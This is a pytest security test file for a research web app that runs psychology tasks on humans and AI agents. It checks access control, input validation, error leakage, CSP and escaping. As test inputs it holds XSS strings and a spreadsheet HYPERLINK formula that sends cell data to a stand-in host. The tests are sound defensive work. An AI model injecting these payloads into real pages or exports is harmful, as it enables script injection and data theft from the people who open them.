"""Security of every route: participants reach only their own session and never admin data;
admin routes refuse without the token; answers are validated against the trial's form; bodies
are capped; error pages are words without paths or internals; markup in run names, answers
and model replies is escaped in every page and in the report."""
from __future__ import annotations

import json
import re

import pytest
from sqlalchemy import update

from machinepsych.participants.spec import ParticipantSpec
from machinepsych.runner.plan import TaskRun
from machinepsych.runner.run import run_sync
from machinepsych.storage.schema import TrialRow
from tests.web.helpers import ADMIN, AUTH, human_run, lab_url

WCST = TaskRun(task="wcst", params={"n_trials": 12}, sessions=2)
ADMIN_GETS = ["/admin", "/admin/results", "/results", "/results?run={run}", "/admin/runs/{run}",
              "/admin/runs/{run}/participants.csv",
              "/admin/runs/{run}/dashboard.json", "/admin/runs/{run}/export.csv"]
MARKUP = "<script>alert(1)</script>"


def paths_of(run):
    return [p.format(run=run) for p in ADMIN_GETS]


def leaks(text: str, people) -> list[str]:
    """Internals an error must not show."""
    found = [w for w in ("Traceback", ".py", "sqlite", "site-packages", "pydantic", "{'type'", '"loc"')
             if w in text]
    return found + ([people.url] if people.url in text else [])


@pytest.fixture()
def two(people):
    run = human_run(people.store, [WCST], "sec1", extra=[ParticipantSpec(ref="agent:random")])
    human = [s for s in people.store.sessions(run.id) if s.participant_name == "human"]
    agent = next(s for s in people.store.sessions(run.id) if s.participant_name != "human")
    a, b = people.browser(), people.browser()
    assert a.get(lab_url(a, human[0].id)).status_code == 200  # a lab computer takes session 0 by its link
    assert b.get(lab_url(b, human[1].id)).status_code == 200
    return run, human, agent, a, b


def test_admin_routes_refuse_without_the_token(people, two):
    run, human, _, a, _ = two
    for path in paths_of(run.name):
        for headers in ({}, {"Authorization": "Bearer wrong-token-wrong-token"}, {"Cookie": "mp_admin=nope"}):
            r = a.get(path, headers=headers)  # a participant's browser, with its session key
            assert r.status_code == 401, (path, headers)
            assert run.name not in r.text or path.endswith(run.name), path
        assert people.browser().get(path, headers=AUTH).status_code == 200, path
    # ?token= once: the cookie is set and the token leaves the address
    admin = people.browser()
    r = admin.get(f"/admin?token={ADMIN}", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/admin" and "mp_admin" in r.headers["set-cookie"]
    assert "httponly" in r.headers["set-cookie"].lower()
    assert admin.get("/admin").status_code == 200
    assert people.browser().get("/admin?token=guess").status_code == 401
    # the participants' start page lists nothing
    front = people.browser().get("/").text
    assert "/session/" not in front and "sec1" not in front and "/results" not in front
    for doc in ("/docs", "/openapi.json", "/redoc"):
        assert people.browser().get(doc).status_code == 404


def test_participants_reach_only_their_own_session(people, two):
    run, human, agent, a, b = two
    other = human[1].id
    assert a.get(f"/session/{other}").status_code == 403
    assert a.get(f"/session/{other}/state").status_code == 403
    assert a.post(f"/session/{other}/answer", json={"trial": 0, "action": 1, "rt_ms": 5}).status_code == 403
    assert a.post(f"/session/{other}/consent", json={"agree": True}).status_code == 403
    assert people.store.trials(other) == []
    # forged keys
    fake = people.browser()
    fake.cookies.set(f"mp_s{other}", "forged-key")
    assert fake.get(f"/session/{other}/state").status_code == 403
    # sessions of models and agents, and sessions that do not exist, are not pages for people
    for sid in (agent.id, 99999):
        assert a.get(f"/session/{sid}").status_code == 404
        assert a.post(f"/session/{sid}/answer", json={"trial": 0, "action": 1}).status_code == 404
    # a study's sessions are given out through its link only
    run2 = human_run(people.store, [WCST], "sec2")
    people.study(run2)
    sid = people.store.sessions(run2.id)[0].id
    r = people.browser().get(f"/session/{sid}")
    assert r.status_code == 403 and "study link" in r.text


def test_answers_are_checked_against_the_form(people, two):
    run, human, _, a, _ = two
    sid = human[0].id
    url = f"/session/{sid}/answer"
    raw = {"Content-Type": "application/json"}
    refused = [
        ({"trial": 0, "action": True, "rt_ms": 5}, 422),  # a bool is not card 1
        ({"trial": 0, "action": 3.0, "rt_ms": 5}, 422),  # nor is 3.0 card 3
        ({"trial": 0, "action": "1", "rt_ms": 5}, 422),
        ({"trial": 0, "action": [1], "rt_ms": 5}, 422),
        ({"trial": 0, "text": "card one", "rt_ms": 5}, 422),  # free text for a choice
        ({"trial": 0, "action": 1, "rt_ms": -1}, 422),
        ({"trial": 0, "action": 1, "rt_ms": 1e12}, 422),
        ({"trial": "0", "action": 1, "rt_ms": 5}, 422),
        ({"trial": 0.0, "action": 1, "rt_ms": 5}, 422),
        ({"trial": True, "action": 1, "rt_ms": 5}, 422),
        ({"trial": 0, "action": 1, "rt_ms": 5, "correct": True}, 422),  # no extra fields
        ({"trial": 0, "ratings": {"a": 1}, "rt_ms": 5}, 422),
        ({"trial": 0, "action": 1, "phase": "practice"}, 409),  # no practice in this session
        ({"trial": 3, "action": 1, "rt_ms": 5}, 409),  # out of order
    ]
    for body, status in refused:
        r = a.post(url, json=body)
        assert r.status_code == status, (body, r.text)
        assert set(r.json()) == {"error"} and r.json()["error"][0].isupper() and not leaks(r.text, people), r.text
    for text in ('{"trial": 0, "action": 1, "rt_ms": Infinity}', '{"trial": 0, "action": 1, "rt_ms": NaN}',
                 '{"trial": 0, "action": 1', "not json", "", "[1, 2]", '{"trial": 0, "action": 1, "rt_ms": 1e999}'):
        r = a.post(url, content=text, headers=raw)
        assert r.status_code == 422, (text, r.text)
        assert "error" in r.json() and not leaks(r.text, people), r.text
    assert people.store.trials(sid) == []  # nothing refused was stored
    assert a.post(url, json={"trial": 0, "action": 1, "rt_ms": 432.5}).status_code == 200
    again = a.post(url, json={"trial": 0, "action": 2, "rt_ms": 5})  # double submit
    assert again.status_code == 409 and "not the next trial" in again.json()["error"]
    t = people.store.trials(sid)
    assert len(t) == 1 and t[0].action == 1 and t[0].reply == "Selection: 1" and t[0].latency_s == pytest.approx(0.4325)


def test_oversize_bodies_are_refused_unread(people, two):
    run, human, _, a, _ = two
    url = f"/session/{human[0].id}/answer"
    big = json.dumps({"trial": 0, "text": "x" * 100_000, "rt_ms": 5})
    r = a.post(url, content=big, headers={"Content-Type": "application/json"})
    assert r.status_code == 413 and "too large" in r.json()["error"]

    def chunks():  # no Content-Length: counted while read
        for _ in range(40):
            yield b" " * 4096

    r = a.post(url, content=chunks(), headers={"Content-Type": "application/json"})
    assert r.status_code == 413
    r = a.post(url, json={"trial": 0, "text": "x" * 3000, "rt_ms": 5})  # under the cap, over the field limit
    assert r.status_code == 422
    assert people.store.trials(human[0].id) == []


def test_error_pages_are_words(people, two):
    run, human, _, a, _ = two
    for path, status in [("/session/99999", 404), ("/nothing/here", 404), ("/s/unknown", 404),
                         ("/session/abc", 422), (f"/session/{human[1].id}", 403)]:
        r = a.get(path)
        assert r.status_code == status, path
        assert r.headers["content-type"].startswith("text/html") and "<h1>" in r.text and not leaks(r.text, people), r.text
    r = people.browser().get("/results?run=nosuch", headers=AUTH)
    assert r.status_code == 404 and "no run named" in r.text and not leaks(r.text, people)
    r = a.put(f"/session/{human[0].id}/answer", json={})
    assert r.status_code == 405 and not leaks(r.text, people)
    page = a.get(f"/session/{human[0].id}")
    for h in ("Content-Security-Policy", "X-Frame-Options", "X-Content-Type-Options", "Referrer-Policy"):
        assert h in page.headers
    csp = page.headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp.split("script-src ")[1].split(";")[0]
    # only the page's own scripts run: each carries this response's nonce, a new one per response
    nonces = re.findall(r"<script nonce='([^']+)'>", page.text)
    assert nonces and set(nonces) == {re.search(r"'nonce-([^']+)'", csp).group(1)}
    assert page.text.count("<script") == len(nonces)
    again = a.get(f"/session/{human[0].id}").headers["Content-Security-Policy"]
    assert again != csp
    missing = a.get("/session/99999")
    script_src = missing.headers["Content-Security-Policy"].split("script-src ")[1].split(";")[0]
    assert "<script" not in missing.text and "unsafe-inline" not in script_src


def test_markup_is_escaped_in_every_page_and_the_report(people, toys, tmp_path):
    from machinepsych.analysis import html_report, report

    # a run named with markup (as an old or foreign store may hold), a person's typed markup
    # answer, and a model's reply with markup
    run = human_run(people.store, [TaskRun(task="toy-recall", sessions=1)], "esc1", name_override=MARKUP,
                    extra=[ParticipantSpec(ref="agent:random")])
    sessions = people.store.sessions(run.id)
    person = next(s for s in sessions if s.participant_name == "human")
    b = people.browser()
    b.get(lab_url(b, person.id))
    for i in range(3):
        r = b.post(f"/session/{person.id}/answer", json={"trial": i, "text": MARKUP, "rt_ms": 5})
        assert r.status_code == 200, r.text
    run_sync(people.store, run.id, progress=False)
    machine = next(s for s in sessions if s.participant_name != "human")
    with people.store.session() as s:
        s.execute(update(TrialRow).where(TrialRow.session_id == machine.id).values(reply=MARKUP + " <img src=x onerror=1>"))
        s.commit()
    admin = people.browser()
    from urllib.parse import quote

    name = quote(MARKUP, safe="")
    for path in ("/admin", "/admin/results", f"/results?run={name}", f"/admin/runs/{name}"):
        r = admin.get(path, headers=AUTH)
        assert r.status_code == 200, (path, r.text)
        assert "<script>alert" not in r.text and "onerror=1>" not in r.text, path
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in r.text, path
    data = report.build(people.store, run.id)
    page = html_report.write_html(data, tmp_path / "report").read_text()
    assert "<script>alert(1)</script>" not in page and "<img src=x onerror=1>" not in page


PARTICIPANT_ROUTES = {"/session/{session_id}", "/session/{session_id}/state", "/session/{session_id}/answer",
                      "/session/{session_id}/consent", "/session/{session_id}/studied", "/session/{session_id}/shown",
                      "/session/{session_id}/begin", "/session/{session_id}/events",
                      "/session/{session_id}/attention", "/session/{session_id}/heartbeat"}
PUBLIC_ROUTES = {"/", "/s/{slug}", "/s/{slug}/consent", "/favicon.ico"}
# routes checked in tests/web/test_researcher_tools.py: the preview (admin token, by study link)
# and the annotators' own links (their token in the address; anything else is 404)
OWN_TOKEN_ROUTES = {"/preview/{slug}", "/preview/{slug}/{token}", "/preview/{slug}/{token}/consent",
                    "/preview/{slug}/{token}/studied", "/preview/{slug}/{token}/attention",
                    "/preview/{slug}/{token}/answer", "/annotator/{token}", "/annotator/{token}/{run}",
                    "/annotator/{token}/{run}/mine"}


def test_every_route_is_a_participant_public_or_admin_route(people, two):
    """A new route must be classified here: participant routes check the session key, public
    ones show nothing of any run, and every other route refuses without the admin token."""
    from fastapi.routing import APIRoute

    run, human, _, a, b = two
    def api_routes(routes):  # through included routers (no prefixes are used)
        for r in routes:
            if isinstance(r, APIRoute):
                yield r
            inner = getattr(r, "original_router", None) or getattr(r, "app", None)
            if inner is not None and hasattr(inner, "routes"):
                yield from api_routes(inner.routes)

    routes = list(api_routes(people.app.routes))
    assert len(routes) >= 12
    for route in routes:
        if route.path in PUBLIC_ROUTES or route.path in OWN_TOKEN_ROUTES:
            continue
        path = (route.path.replace("{session_id}", str(human[1].id)).replace("{run:path}", run.name)
                .replace("{run}", run.name))
        for method in route.methods:
            if route.path in PARTICIPANT_ROUTES:  # browser a does not hold session human[1]
                body = ({"agree": True} if path.endswith("consent") else {"trial": 0, "phase": "test"}
                        if path.endswith("studied") else {} if path.endswith(("shown", "begin", "heartbeat"))
                        else {"kind": "focus", "data": {"event": "blur"}} if path.endswith("events")
                        else {"trial": 2, "choice": "Red"} if path.endswith("attention")
                        else {"trial": 0, "action": 1, "rt_ms": 5})
                r = a.request(method, path, json=body if method == "POST" else None)
                assert r.status_code == 403, (method, path, r.status_code)
            else:
                r = a.request(method, path)
                assert r.status_code == 401, (method, path, r.status_code)
                r = people.browser().request(method, path, headers=AUTH)
                if method == "GET":
                    assert r.status_code == 200, (path, r.text[:300])
                else:  # past the token; an empty body is then refused in words
                    assert r.status_code in (400, 422) and not leaks(r.text, people), (path, r.text[:300])


def test_exports_do_not_hand_spreadsheets_a_formula(people, toys):
    import io

    import pandas as pd

    run = human_run(people.store, [TaskRun(task="toy-recall", sessions=1)], "csv1")
    sid = people.store.sessions(run.id)[0].id
    b = people.browser()
    b.get(lab_url(b, sid))
    typed = ['=HYPERLINK("http://x.example/?"&A1)', "-1", "@SUM(A1:A9)"]
    for i, text in enumerate(typed):
        assert b.post(f"/session/{sid}/answer", json={"trial": i, "text": text.replace(" ", ""), "rt_ms": 5}).status_code == 200
    assert [t.reply for t in people.store.trials(sid)] == [t.replace(" ", "") for t in typed]  # stored as typed
    csv = people.browser().get("/admin/runs/csv1/export.csv", headers=AUTH).text
    replies = pd.read_csv(io.StringIO(csv), dtype=str)["reply"].tolist()
    assert replies == ["'" + typed[0], "-1", "'@SUM(A1:A9)"]
